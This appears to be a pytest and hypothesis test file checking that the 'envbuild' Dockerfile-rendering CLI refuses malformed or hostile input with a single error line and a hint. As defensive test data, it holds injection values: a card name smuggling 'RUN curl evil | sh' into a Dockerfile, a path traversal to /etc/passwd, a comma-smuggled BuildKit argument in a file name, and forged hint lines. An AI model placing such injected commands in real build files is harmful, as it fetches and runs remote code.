"""Hostile and careless input: every command answers one line (plus a hint) and exit 2, writes
nothing it did not own, and lets nothing reach a Dockerfile, a shell line or a source file."""

import json
import os
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from conftest import ROOT
from envbuild import catalog, render
from envbuild.errors import BadInput
from envbuild.resolve import resolve


def envbuild(*args, env=None, cwd=None):
    return subprocess.run([sys.executable, "-m", "envbuild.cli", *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=120, cwd=cwd)


def one_clear_line(r, needle):
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and needle in lines[0], r.stderr
    assert any(line.startswith("hint: ") for line in lines[1:]), r.stderr


@pytest.mark.parametrize("args, needle", [
    (["resolve", "maptr", "--card", "h20", "--set", "nosuchpkg==1.0"], "maptr does not install nosuchpkg"),
    (["resolve", "maptr", "--card", "h20", "--set", "torchvision==0.15.2"], "torchvision pairs with torch"),
    (["resolve", "maptr", "--card", "h20", "--set", "mmcv-full==9.9.9"], "unknown mmcv-full version '9.9.9'"),
    (["resolve", "sparsedrive", "--card", "h20", "--set", "flash-attn==9.9.9"], "unknown flash-attn version"),
    (["resolve", "maptr", "--card", "h20", "--cuda", "11.8.99"], "--cuda '11.8.99'"),
    (["resolve", "maptr", "--card", "h20", "--cuda", "11.8.0.1"], "--cuda '11.8.0.1'"),
    (["resolve", "maptr", "--card", "h20", "--python", "3.8x"], "is not a Python version"),
    (["resolve", "maptr", "--card", "h20", "--python", "3.11.5.5"], "is not a Python version"),
    (["resolve", "maptr\nhint: forged", "--card", "h20"], "unknown model 'maptr\\nhint: forged'"),
])
def test_refused_input_is_one_line_and_a_hint(args, needle):
    one_clear_line(envbuild(*args), needle)


def test_a_forged_hint_line_cannot_appear():
    r = envbuild("resolve", "maptr\nhint: forged", "--card", "h20")
    assert not any(line == "hint: forged" for line in r.stderr.splitlines())


@pytest.mark.parametrize("cuda", ["11.8", "11.8.0"])
def test_the_catalogs_own_cuda_spellings_are_accepted(cat, cuda):
    assert resolve(cat, "maptr", "h20", cuda=cuda).cuda == "11.8.0"


def _edit(path, old, new):
    text = path.read_text()
    assert old in text, old
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("file, old, new, says", [
    ("cards.toml", 'name = "NVIDIA GeForce RTX 4090"', 'name = "RTX 4090\\nRUN curl evil | sh"', "control characters"),
    ("models/maptr.toml", 'entry = "tools/train.py"', 'entry = "tools/../../etc/passwd"', "must stay inside the repository"),
    ("models/maptr.toml", 'title = "', 'title = "x\\u0007', "control characters"),
])
def test_catalog_values_that_would_inject_are_refused(matrices_copy, file, old, new, says):
    _edit(matrices_copy / file, old, new)
    r = envbuild("resolve", "maptr", "--card", "rtx4090", env={"ENVBUILD_MATRICES": str(matrices_copy)})
    assert r.returncode == 2 and says in r.stderr and "Traceback" not in r.stderr


def test_no_p2p_reason_is_one_comment_line_in_the_dockerfile(cat, tmp_path):
    plan = resolve(cat, "maptr", "rtx4090")
    text = render.dockerfile(render.make_context(plan, "envbuild render maptr --card rtx4090"))
    for line in text.splitlines():
        assert not line.startswith(("RUN curl", "RUN wget")), line
    assert "NCCL_P2P_DISABLE" in text


def test_ca_bundle_with_a_comma_is_refused(tmp_path):
    bundle = tmp_path / "a,src=evil.pem"
    bundle.write_text("x")
    r = envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_CA_BUNDLE": str(bundle)})
    # resolve does not use the CA; render/lock/image load the sources and refuse it
    r = envbuild("render", "maptr", "--card", "h20", "-o", tmp_path / "out", env={"ENVBUILD_CA_BUNDLE": str(bundle)})
    one_clear_line(r, "cannot be passed to BuildKit")
    assert not (tmp_path / "out").exists()


def test_a_malformed_config_file_is_one_line(tmp_path):
    cfg = tmp_path / "config.toml"
    for text, says in (("torch_index = [", "not valid TOML"), ('bogus = "x"', "unknown key 'bogus'"),
                       ('card = "a800\\nx"', "is not a card name")):
        cfg.write_text(text)
        one_clear_line(envbuild("resolve", "maptr", env={"ENVBUILD_CONFIG": str(cfg)}), says)
    cfg.write_bytes(b"\xff\xfe torch_index")
    r = envbuild("resolve", "maptr", env={"ENVBUILD_CONFIG": str(cfg)})
    assert r.returncode == 2 and "Traceback" not in r.stderr


def test_fix_on_an_empty_path_changes_nothing_here(tmp_path):
    (tmp_path / "train.py").write_text("p.add_argument('--local_rank')\n")
    r = envbuild("fix", "", cwd=tmp_path)
    assert r.returncode == 2 and (tmp_path / "train.py").read_text() == "p.add_argument('--local_rank')\n"


# ---------------------------------------------------------- properties over names and fixer inputs

@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=0, max_size=30))
def test_any_card_name_is_a_card_or_one_clean_bad_input(cat, name):
    try:
        resolve(cat, "qcnet", name)
    except BadInput as exc:
        assert exc.exit_code == 2 and exc.message
    except Exception as exc:  # noqa: BLE001
        if type(exc).__name__ != "Conflict":
            raise


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_any_set_value_is_a_pin_or_one_clean_bad_input(value):
    from envbuild.resolve import parse_overrides
    cat = catalog.load()
    try:
        resolve(cat, "maptr", "h20", overrides=parse_overrides([value]))
    except BadInput as exc:
        assert exc.message


@pytest.mark.filterwarnings("ignore::SyntaxWarning")  # generated code like "'a'(b)" compiles with a warning
@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(list("()[],'\"\\ \n\t#=abc:.") + ["'-std=c++14'", '"-std=c++11"', "\\\n", "x = ",
                                 "if torch.cuda.is_available():\n    pass\n", "p.add_argument('--local_rank')",
                                 "from numba.errors import E\n", '"""d"""\n']), max_size=25).map("".join))
def test_fixers_never_turn_compiling_python_into_broken_python(text):
    from envbuild import fixers
    for name in ("cxx-standard", "local-rank", "numba-errors", "setup-without-gpu"):
        fx = fixers.make(name)
        try:
            compile(text, "setup.py", "exec")
        except (SyntaxError, ValueError):
            continue
        new = fx.fix_text("setup.py", text)
        compile(new, "setup.py", "exec")  # the fixer's own output compiles (the guard is a second net)


@settings(max_examples=100, deadline=None)
@given(prefix=st.sampled_from(["", "import numba\n", '"""doc"""\n', "import numba.errors\n"]),
       names=st.lists(st.sampled_from(["TypingError", "NumbaWarning", "NumbaWarning as W"]), min_size=1, max_size=3,
                      unique=True),
       paren=st.booleans(), backslash=st.booleans(), use_attr=st.booleans())
def test_numba_fixer_output_compiles_for_any_import_form(prefix, names, paren, backslash, use_attr):
    from envbuild import fixers
    joined = ", ".join(names)
    stmt = (f"from numba.errors import ({joined},)\n" if paren else
            f"from numba.errors import \\\n    {joined}\n" if backslash else f"from numba.errors import {joined}\n")
    text = prefix + stmt + ("x = numba.errors.TypingError\n" if use_attr and "numba" in prefix else "")
    new = fixers.make("numba-errors").fix_text("a.py", text)
    compile(new, "a.py", "exec")
    for n in names:
        assert n.split(" as ")[-1] in new
    assert fixers.make("numba-errors").fix_text("a.py", new) == new


@pytest.mark.parametrize("args", [
    ["compare", "nope.json"], ["compare", "bad.json"], ["fix", "nope-dir"], ["fix", ".", "--plan", "bad.json"],
    ["fix", ".", "--only", "nosuch"], ["bake", "--parallel", "0", "-o", "bk/docker-bake.json"],
    ["smoke", "img", "--recipe", "x"], ["smoke", "img", "--gpus", "many"], ["export", "img", "--format", "zip"],
    ["load", "nope.tar.gz"], ["resolve", "maptr", "--card", "a800,nosuch"], ["render", "maptr", "--card", "h20", "-o", "bad.json"],
    ["matrix", "--models", "nosuch"], ["lock", "maptr", "--card", "h20", "--set", "x"],
])
def test_every_refusal_is_an_error_line_and_a_hint(tmp_path, args):
    (tmp_path / "bad.json").write_text("{not json")
    r = envbuild(*args, cwd=tmp_path)
    assert r.returncode == 2 and "Traceback" not in r.stderr, (args, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and lines[-1].startswith("hint: "), (args, r.stderr)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.json"]  # nothing written


# ---------------------------------------------------------------- a second sweep (101 fresh inputs, 29 not clean): each fixed

def _catalog_copy(tmp_path):
    import shutil
    dst = tmp_path / "matrices"
    shutil.copytree(ROOT / "envbuild" / "matrices", dst, ignore=shutil.ignore_patterns("verified"))
    return dst


@pytest.mark.parametrize("file, data", [
    ("models/maptr.toml", b"\xff\xfe[model]\n"),
    ("toolchains/cuda.toml", b"# \xe9t\xe9\n"),
    ("cards.toml", b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n"),
])
def test_a_catalog_file_that_is_not_utf8_or_nested_too_deep_is_one_line(tmp_path, file, data):
    cat = _catalog_copy(tmp_path)
    (cat / file).write_bytes(data)
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_MATRICES": str(cat)}), file.split("/")[-1])


def test_deeply_nested_config_plan_and_report_files_are_one_line(tmp_path):
    deep = tmp_path / "deep.toml"
    deep.write_text("pypi_index = " + "[" * 5000 + "]" * 5000 + "\n")
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_CONFIG": str(deep)}), "deep.toml")
    (tmp_path / "tree").mkdir()
    (tmp_path / "deep.json").write_text("[" * 100000 + "]" * 100000)
    one_clear_line(envbuild("fix", tmp_path / "tree", "--plan", tmp_path / "deep.json"), "cannot use plan")
    for i, shape in enumerate(['{"levels": {"train": {"runs": 5}}}', '{"levels": []}',
                               '{"levels": {"train": {"runs": {"synthetic": {"status": "passed", "losses": "ab"}}}}}',
                               '{"environment": [], "levels": {"train": {"runs": {"synthetic": {"status": "passed", '
                               '"losses": [1.0], "samples_per_s": 1, "step_time_s": 1}}}}}', "[1, 2]"]):
        (tmp_path / f"r{i}.json").write_text(shape)
        one_clear_line(envbuild("compare", tmp_path / f"r{i}.json", "-o", tmp_path / "c.html"), f"r{i}.json")
    assert not (tmp_path / "c.html").exists()


def test_a_config_table_envbuild_does_not_know_is_refused(tmp_path):
    cfg = tmp_path / "config.toml"
    cfg.write_text('[sourcse]\ntorch_index = "none"\n')
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_CONFIG": str(cfg)}), "unknown table [sourcse]")


@pytest.mark.parametrize("manifest", [b"{bad", b"[1, 2]", b"\xff\xfe", b'{"sha256": 5}'])
def test_load_with_a_malformed_manifest_is_one_line_and_loads_nothing(tmp_path, manifest):
    (tmp_path / "img.tar.gz").write_bytes(b"\x1f\x8b not really")
    (tmp_path / "img.tar.gz.json").write_bytes(manifest)
    one_clear_line(envbuild("load", tmp_path / "img.tar.gz", env={"ENVBUILD_DOCKER": "/usr/bin/false"}),
                   "not an envbuild export manifest")


def test_an_exit_1_message_cannot_forge_a_hint_line(tmp_path):
    name = "x\nhint: forged.tar.gz"
    (tmp_path / name).write_bytes(b"data")
    (tmp_path / (name + ".json")).write_text(json.dumps({"sha256": "0" * 64}))
    r = envbuild("load", tmp_path / name, env={"ENVBUILD_DOCKER": "/usr/bin/false"})
    assert r.returncode == 1 and "checksum mismatch" in r.stderr
    assert not [line for line in r.stderr.splitlines() if line.startswith("hint: forged")], r.stderr


@pytest.mark.parametrize("record", ['{"request": [], "digest": "x", "verdict": "passed", "levels": {}, "date": "d"}', None])
def test_a_malformed_ledger_record_in_a_user_catalog_is_one_line(tmp_path, record):
    cat = tmp_path / "mine"
    (cat / "verified").mkdir(parents=True)
    if record is None:
        (cat / "verified" / "zz.json").mkdir()  # a folder where a record should be
    else:
        (cat / "verified" / "zz.json").write_text(record)
    for args in (["resolve", "qcnet", "--card", "a800"], ["matrix", "--models", "qcnet", "--cards", "a800"]):
        one_clear_line(envbuild(*args, env={"ENVBUILD_MATRICES": str(cat)}), "zz.json")


@pytest.mark.parametrize("args", [
    ["render", "maptr", "--card", "h20", "-o", ""], ["render", "maptr", "--card", "h20", "--source", "", "-o", "out"],
    ["load", ""], ["fix", ".", "--plan", ""], ["compare", "r.json", "-o", ""],
    ["render", "maptr", "--card", "h20", "-o", "x" * 300],
    ["fix", ".", "--only", ""], ["fix", ".", "--mmcv", "１.７.２"], ["fix", ".", "--mmcv", "١.٧.٢"],
    ["bake", "--models", "qcnet", "--cards", "a800", "--builder-memory", "1" + "0" * 30, "-o", "bk/docker-bake.json"],
])
def test_empty_paths_odd_names_and_values_change_nothing(tmp_path, args):
    """Each was accepted (an empty path became '.', the whole folder copied or written into) or
    ended in a traceback; now one line, exit 2, and the folder as it was."""
    (tmp_path / "setup.py").write_text("import os\n")
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    r = envbuild(*args, cwd=tmp_path, env={"ENVBUILD_HOME": str(tmp_path.parent / "home")})
    assert r.returncode == 2 and "Traceback" not in r.stderr, (args, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and lines[-1].startswith("hint: "), (args, r.stderr)
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


def test_envbuild_home_that_is_a_file_is_one_line(tmp_path):
    (tmp_path / "home").write_text("")
    one_clear_line(envbuild("render", "maptr", "--card", "h20", env={"ENVBUILD_HOME": str(tmp_path / "home")}),
                   "ENVBUILD_HOME")


def test_bake_into_a_folder_or_a_users_file_writes_no_context(tmp_path):
    (tmp_path / "mine.json").write_text('{"mine": true}\n')
    (tmp_path / "adir").mkdir()
    for out in ("mine.json", "adir"):
        r = envbuild("bake", "--models", "qcnet", "--cards", "a800", "-o", out, cwd=tmp_path)
        one_clear_line(r, out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir", "mine.json"] and not list((tmp_path / "adir").iterdir())
    assert (tmp_path / "mine.json").read_text() == '{"mine": true}\n'


def test_a_link_put_where_the_source_copy_was_is_refused_and_its_target_kept(tmp_path):
    src, out, theirs = tmp_path / "src", tmp_path / "ctx", tmp_path / "theirs"
    src.mkdir()
    (src / "train.py").write_text("print('hi')\n")
    theirs.mkdir()
    (theirs / "keep.txt").write_text("mine\n")
    assert envbuild("render", "maptr", "--card", "h20", "--source", src, "-o", out).returncode == 0
    import shutil
    shutil.rmtree(out / "src")
    (out / "src").symlink_to(theirs)
    one_clear_line(envbuild("render", "maptr", "--card", "h20", "--source", src, "-o", out), "not the source copy")
    assert (theirs / "keep.txt").read_text() == "mine\n"
